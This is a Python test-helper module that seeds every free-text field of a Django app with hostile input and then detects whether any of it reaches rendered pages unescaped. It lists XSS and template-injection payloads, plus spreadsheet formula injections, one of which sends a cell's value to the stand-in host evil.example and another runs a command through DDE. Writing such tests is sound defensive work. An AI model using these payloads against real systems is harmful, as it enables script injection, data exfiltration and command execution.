"""Hostile text in every free-text field, for the output-encoding tests
(docs/spec/quality.md#output-encoding, "XSS payloads in every free-text field, rendered on every
page, DOCX and PDF").

The fields are found, not listed: every CharField and TextField of the app's models (their
history tables too) that a person or a review file can fill. A field added later is filled with
the payloads automatically, so it is checked without anyone remembering to.
"""

import re

from django.apps import apps
from django.db import models
from django.utils.html import escape

# Each one does something if a page, document or spreadsheet treats text as markup, a link, a
# template or a formula. Those that run script set window.__xss as well as calling alert(), so the
# browser test sees them even where a dialog would not open.
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<script>window.__xss=1</script>",
    '\'"><img src=x onerror="window.__xss=1;alert(1)">',
    "javascript:alert(1)",
    "{{ 7*7 }}",
    "{% debug %}",
    "[x](javascript:alert(1))",
    '<a href="javascript:window.__xss=1">x</a>',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]
# For fields too short for the others: still markup if it were not escaped.
SHORT_PAYLOAD = '"<xss>'
# The payload narrative: Markdown and HTML links, raw HTML and template syntax.
NARRATIVE = "\n\n".join(
    [
        "A paragraph with <script>alert(1)</script> and <svg onload=alert(1)>.",
        "A Markdown link: [click me](javascript:alert(1)) and an HTML one: "
        '<a href="javascript:window.__xss=1">click</a>.',
        "- a list item {{ 7*7 }} {% debug %}",
        '=HYPERLINK("http://evil.example","x")',
    ]
)
# Markup that would be live if any of it reached a page unescaped.
ACTIVE_MARKUP = [
    "<script>alert",
    "<script>window",
    "<img src=x",
    "<svg onload",
    '<a href="javascript:',
    "<xss>",
]
SCRIPT_URL = re.compile(r"""(?:href|src|action|formaction|data)\s*=\s*["']?\s*javascript:""", re.I)

# Text the app writes itself, never a person or a file: hashes, the audit trail's ids and action
# names (append-only, protected by database triggers), passwords and validated addresses.
NOT_FREE_TEXT = {
    "User.password",
    "ImportRecord.sha256",
    "HistoricalImportRecord.sha256",
}
NOT_FREE_TEXT_MODELS = {"AuditEvent"}
# The fields the enumeration must find: if one of these is missing, it has stopped working.
KNOWN_FREE_TEXT = {
    "Review.practice_outcome_reason",
    "Review.answers", "Review.moderation_reason", "Review.second_rationale",
    "Review.conflict_reason", "Review.ethnicity", "Review.age_as_written",
    "ThemeFinding.strengths", "ThemeFinding.development", "Conversation.their_words",
    "ReviewResponse.text", "ReviewEvent.reason", "Alert.concern", "Alert.action_taken",
    "Recommendation.action", "Recommendation.success_measure", "Recommendation.status_reason",
    "RecommendationUpdate.text", "ImpactCheck.evidence", "LearningPoint.text",
    "AgendaReview.reason", "Meeting.attendees", "Meeting.notes", "SummaryReport.title",
    "PublishedReport.title", "PublishedReport.override_reason", "Cohort.name",
    "Cohort.selected_by", "Cohort.theme", "StaffMember.name", "StaffMember.initials",
    "Child.initials", "Child.case_ref", "Child.ethnicity", "Child.religion",
    "Child.first_language", "Team.name", "User.username", "User.first_name", "User.last_name",
    "LearningTopic.name", "GradeDescriptor.text", "GradeDescriptorSet.notes",
    "ImportRecord.file_name",
}  # fmt: skip
TAG = re.compile(r"X(\d+)r(\d+)x", re.I)


def field_key(model, field):
    return f"{model.__name__}.{field.name}"


def _in_every_comment(document, text):
    """Each standard's comment and each grade's reasons (reviews/answers.py)."""
    standards = {key: {**part, "comment": text}
                 for key, part in (document.get("standards") or {}).items()}  # fmt: skip
    grades = {axis: {**part, "rationale": text}
              for axis, part in (document.get("grades") or {}).items()}  # fmt: skip
    return {**document, "standards": standards, "grades": grades}


# JSON documents that hold free text, and how to put a text where a person's words go.
TEXT_IN_DOCUMENTS = {
    "Review.answers": _in_every_comment,  # comments and reasons (reviews/answers.py)
    "HistoricalReview.answers": _in_every_comment,
}


def free_text_fields():
    """[(model, field)] for every free-text field of the app's models, history included."""
    found = []
    for model in apps.get_models():
        if not model.__module__.startswith("practice_review."):
            continue
        if model._meta.abstract or model._meta.proxy or model.__name__ in NOT_FREE_TEXT_MODELS:
            continue
        for field in model._meta.concrete_fields:
            if field_key(model, field) in TEXT_IN_DOCUMENTS:
                found.append((model, field))
                continue
            if not isinstance(field, (models.CharField, models.TextField)):
                continue
            if isinstance(field, (models.EmailField, models.URLField, models.SlugField)):
                continue  # validated as addresses and slugs on the way in
            if field.choices or field.primary_key or field_key(model, field) in NOT_FREE_TEXT:
                continue
            # Keys the app derives from a name (name_key): never typed, never shown. History
            # tables copy them as ordinary fields, so the name tells.
            if not field.editable or field.name.endswith("_key"):
                continue
            found.append((model, field))
    return found


def _fit(number, room):
    """Payloads for field `number` within `room` characters, starting at a different one for
    each field so that across fields every payload is used."""
    chosen, used = [], 0
    for offset in range(len(PAYLOADS)):
        payload = PAYLOADS[(number + offset) % len(PAYLOADS)]
        if used + len(payload) + 1 <= room:
            chosen.append(payload)
            used += len(payload) + 1
    return " ".join(chosen) or SHORT_PAYLOAD


def markup_value(tag, number, max_length):
    """The tag, then as many payloads as fit."""
    room = (max_length or 10_000) - len(tag) - 1
    return f"{tag} {_fit(number, room)}" if room >= len(SHORT_PAYLOAD) else tag[:max_length]


# Cells a spreadsheet would read as a formula: each sign, after spaces and line breaks, and the
# full-width forms Excel reads as the ASCII ones.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1",
    "\uff1d1+1", "\uff0b1", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0",
]  # fmt: skip


def formula_value(tag, number, max_length):
    """A formula first (where a spreadsheet looks), then the tag."""
    formula = FORMULAS[number % len(FORMULAS)]
    return f"{formula} {tag}"[: max_length or None]


def fill_every_free_text_field(make=markup_value):
    """Put payloads in every free-text field of every row. Returns {tag: (field key, value)};
    each value holds its tag, "X<field number>r<row id>x", so a page that shows it says which
    field and row it came from."""
    values = {}
    for number, (model, field) in enumerate(free_text_fields()):
        rows = list(model._default_manager.all())
        for row in rows:
            tag = f"X{number}r{row.pk}x"
            value = make(tag, number, field.max_length)
            put = TEXT_IN_DOCUMENTS.get(field_key(model, field))
            setattr(row, field.attname, put(getattr(row, field.attname), value) if put else value)
            values[tag.casefold()] = (field_key(model, field), value)
        # bulk_update: no save() (append-only and published rows refuse a changed save()).
        model._default_manager.bulk_update(rows, [field.attname], batch_size=500)
    return values


def unescaped_markup(html):
    """Every sign that a payload reached the page as markup, not text."""
    found = [markup for markup in ACTIVE_MARKUP if markup in html]
    found += [match[0] for match in SCRIPT_URL.finditer(html)]
    return found


def fields_shown(html, values):
    """({field keys shown escaped}, [(field key, what was there) shown raw]) on one page."""
    shown, raw = set(), []
    folded = html.casefold()
    for match in TAG.finditer(folded):
        key, value = values.get(match[0], (None, None))
        if key is None:
            continue
        at = match.start()
        if folded.startswith(value.casefold(), at) and value != escape(value):
            raw.append((key, html[at : at + len(value)]))
        elif folded.startswith(escape(value).casefold(), at):
            shown.add(key)
    return shown, raw
